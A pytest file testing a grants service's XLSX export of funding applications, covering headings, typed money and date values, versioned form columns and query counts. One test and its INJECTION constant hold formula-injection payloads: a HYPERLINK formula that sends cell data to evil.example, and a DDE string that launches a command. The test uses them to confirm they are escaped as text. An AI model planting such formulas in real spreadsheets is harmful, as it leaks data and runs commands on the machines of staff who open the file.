"""The round's spreadsheet: one row per submitted application, every question of the forms they answer
a column, no formulas."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from grants.exports.applications import FIXED_HEADINGS, XLSX_MIMETYPE, round_workbook
from grants.form_definitions import Kind, load, standard
from grants.interfaces.applications.shown_answers import export_columns
from grants.interfaces.round_forms.versions import version_in_force
from grants.models.applications import ApplicationStatus
from grants.models.organisations import LegalType
from tests import custom_application_form as custom
from tests.blueprints.screening.conftest import PROJECT_ANSWERS
from tests.factories import FundingRoundFactory, OrganisationFactory

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
STANDARD_HEADINGS = [heading for _id, heading in export_columns([standard(Kind.APPLICATION)])]


@pytest.fixture
def make_application(make_application, funding_round):
    """As the service starts them: each answering its round's application form in force."""

    def _make(**values):
        values.setdefault("form", version_in_force(values.get("funding_round", funding_round), Kind.APPLICATION))
        return make_application(**values)

    return _make


def _download(client, funding_round):
    response = client.get(f"/screening/rounds/{funding_round.id}/export.xlsx")
    assert response.status_code == 200
    return response


def _rows(response) -> list[list]:
    sheet = load_workbook(BytesIO(response.data)).active
    return [list(row) for row in sheet.iter_rows()]


def _by_heading(rows) -> list[dict]:
    headings = [cell.value for cell in rows[0]]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]


def test_the_response_is_an_xlsx_attachment_never_sniffed_or_cached(officer, funding_round):
    response = _download(officer, funding_round)
    assert response.mimetype == XLSX_MIMETYPE
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=applications-community-safety-fund-2026-")
    assert disposition.endswith(".xlsx")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]


def test_a_round_with_no_applications_still_has_its_headings(officer, funding_round):
    rows = _rows(_download(officer, funding_round))
    assert len(rows) == 1
    assert [cell.value for cell in rows[0]][:len(FIXED_HEADINGS)] == list(FIXED_HEADINGS)


def _headings(workbook) -> list[str]:
    return [cell.value for cell in next(load_workbook(workbook).active.iter_rows())]


def test_with_no_applications_the_rounds_form_gives_the_question_columns(db, funding_round):
    assert _headings(round_workbook([], funding_round)) == [*FIXED_HEADINGS, *STANDARD_HEADINGS]
    assert "Project summary and activities: Summarise your project" in STANDARD_HEADINGS
    custom.store(funding_round)
    headings = _headings(round_workbook([], funding_round))
    assert headings[len(FIXED_HEADINGS):len(FIXED_HEADINGS) + 2] == [
        "About the work: What is the project called?", "About the work: Describe the project in a paragraph"]
    assert not set(STANDARD_HEADINGS) & set(headings)
    assert _headings(round_workbook([])) == list(FIXED_HEADINGS)


def test_one_row_per_submitted_application_with_typed_values(officer, make_application, funding_round):
    organisation = OrganisationFactory(
        name="Harbour Recovery", legal_type=LegalType.CIC, charity_number=None, company_number="01234567"
    )
    make_application(
        organisation=organisation,
        amount="4250.50",
        submitted_at=datetime(2026, 7, 1, 8, 30, tzinfo=UTC),
        answers={"project": PROJECT_ANSWERS},
        status=ApplicationStatus.UNDER_ASSESSMENT,
    )
    make_application(status=ApplicationStatus.DRAFT, answers={"project": PROJECT_ANSWERS})
    make_application(funding_round=FundingRoundFactory())  # another round's
    rows = _by_heading(_rows(_download(officer, funding_round)))
    assert len(rows) == 1
    row = rows[0]
    assert row["Reference"].value == "CGS-2026-0001"
    assert row["Status"].value == "Under assessment"
    assert row["Organisation"].value == "Harbour Recovery"
    assert row["Organisation type"].value == "Community interest company (CIC)"
    assert row["Company number"].value == "01234567" and row["Company number"].data_type == "s"
    assert row["Charity number"].value in (None, "")
    assert row["Amount requested"].value == 4250.5 and row["Amount requested"].data_type == "n"
    assert "£" in row["Amount requested"].number_format
    assert row["Submitted at (UK time)"].value == datetime(2026, 7, 1, 9, 30)
    assert row["Project summary and activities: Project name"].value == "Harbour Recovery Café"
    assert row["Project summary and activities: Summarise your project"].value == PROJECT_ANSWERS["summary"][0]


def test_the_organisation_is_shown_as_it_was_when_it_applied(officer, make_application, funding_round):
    make_application(
        organisation=OrganisationFactory(name="New Name Ltd"),
        organisation_snapshot={"name": "Old Name", "legal_type_label": "Faith group", "charity_number": None},
    )
    [row] = _by_heading(_rows(_download(officer, funding_round)))
    assert row["Organisation"].value == "Old Name"
    assert row["Organisation type"].value == "Faith group"


def test_formulas_typed_by_applicants_are_written_as_text(officer, make_application, funding_round):
    make_application(
        organisation=OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0"),
        answers={"project": {**PROJECT_ANSWERS, "title": [INJECTION], "summary": ["-2+3"], "need": ["+1\x07"]}},
    )
    rows = _rows(_download(officer, funding_round))
    cells = [cell for row in rows for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    values = {cell.value for cell in cells}
    assert "'" + INJECTION in values
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert "'-2+3" in values and "'+1" in values


def test_rows_are_in_reference_order_and_every_status_after_submission_is_included(
    officer, make_application, funding_round
):
    statuses = [ApplicationStatus.SUBMITTED, ApplicationStatus.INELIGIBLE, ApplicationStatus.WITHDRAWN]
    made = [make_application(status=status, amount=None) for status in statuses]
    rows = _by_heading(_rows(_download(officer, funding_round)))
    assert [row["Reference"].value for row in rows] == [application.reference for application in made]
    assert all(row["Amount requested"].value is None for row in rows)


def test_an_unpublished_round_cannot_be_exported(officer):
    draft_round = FundingRoundFactory(published_at=None)
    assert officer.get(f"/screening/rounds/{draft_round.id}/export.xlsx").status_code == 404


def test_money_is_exact_to_the_penny(officer, make_application, funding_round):
    make_application(amount="1234567.89")
    [row] = _by_heading(_rows(_download(officer, funding_round)))
    assert Decimal(str(row["Amount requested"].value)) == Decimal("1234567.89")


def test_a_complete_application_fills_every_question_column(officer, make_application, funding_round):
    from tests.blueprints.applications.answers import VALID

    answers = {key: values for key, values in VALID.items() if key != "organisation"}
    make_application(answers=answers)
    [row] = _by_heading(_rows(_download(officer, funding_round)))
    empty = {heading for heading, cell in row.items() if cell.value in (None, "")}
    # "Partners": a bid made alone names none (tests/test_partners_views.py fills the column).
    assert empty == {"Company number", "Partners", "Safeguarding and policies: Anything you need to explain"}
    assert row["Budget: Budget lines"].value.count("\n") == 1


def test_the_export_takes_the_same_number_of_queries_for_2_or_20_applications(
    officer, make_application, funding_round, count_queries
):
    for _ in range(2):
        make_application(answers={"project": PROJECT_ANSWERS})
    with count_queries() as few:
        _download(officer, funding_round)
    for _ in range(18):
        make_application(answers={"project": PROJECT_ANSWERS})
    with count_queries() as many:
        assert len(_rows(_download(officer, funding_round))) == 21
    assert len(many) == len(few)


def test_each_application_fills_the_columns_of_the_form_it_answers(officer, make_application, funding_round):
    """A round whose form changed after some applied: a column for every question of either version,
    the standard one's first; each row fills its own form's, and the other's are blank."""
    before = make_application(answers={"project": PROJECT_ANSWERS})
    custom.store(funding_round)
    after = make_application(answers=custom.ANSWERS)
    assert before.form.version == 1 and after.form.version == 2
    rows = _rows(_download(officer, funding_round))
    headings = [cell.value for cell in rows[0]]
    custom_headings = [heading for _id, heading in export_columns([load(custom.DOCUMENT)])]
    assert headings == [*FIXED_HEADINGS, *STANDARD_HEADINGS, *custom_headings]
    first, second = _by_heading(rows)
    assert first["Project summary and activities: Project name"].value == "Harbour Recovery Café"
    assert second["Project summary and activities: Project name"].value in (None, "")
    assert first["About the work: What is the project called?"].value in (None, "")
    assert second["About the work: What is the project called?"].value == "Moorland Mentors"
    assert second["Timing: Last day of the work"].value == "29 February 2028"
    assert second["Focus: Who benefits?"].value == "Armed forces veterans"
    assert second["Money: What the money pays for"].value == "Staff – Mentor coordinator – £3,000.00"
    # Hidden by the answer before it: blank, though something was typed there before.
    assert second["About the work: Do you work with a partner?"].value == "No"
    assert second["About the work: Who is your partner?"].value in (None, "")


def test_an_application_without_a_version_answers_the_rounds_current_form(officer, make_application,
                                                                            funding_round):
    custom.store(funding_round)
    make_application(answers=custom.ANSWERS, form=None)
    [row] = _by_heading(_rows(_download(officer, funding_round)))
    assert row["About the work: What is the project called?"].value == "Moorland Mentors"
    assert not set(STANDARD_HEADINGS) & set(row)
